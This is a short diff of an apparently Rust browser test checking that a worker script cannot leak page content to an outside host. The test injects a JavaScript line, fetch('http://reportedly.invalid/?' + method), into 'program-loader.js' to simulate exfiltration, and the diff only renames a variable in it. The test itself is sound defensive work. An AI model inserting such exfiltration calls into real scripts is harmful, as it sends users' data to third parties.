@@ -70,7 +70,7 @@ fn a_frame_s_worker_is_under_the_policy_of_the_frame() {
 #[test]
 fn a_worker_for_links_that_would_send_the_article_away_cannot() {
     let (answers, sends) =
-        ("postMessage({ number, result:", "fetch('http://reportedly.invalid/?' + verb).catch(() => {});");
+        ("postMessage({ number, result:", "fetch('http://reportedly.invalid/?' + method).catch(() => {});");
     let leaking = |script: &str| replaced(script, answers, &[sends, answers].join(" "));
     Visit::of_the_build().with_changed("program-loader.js", leaking).run(async |page| {
         read_ferry(page).await;
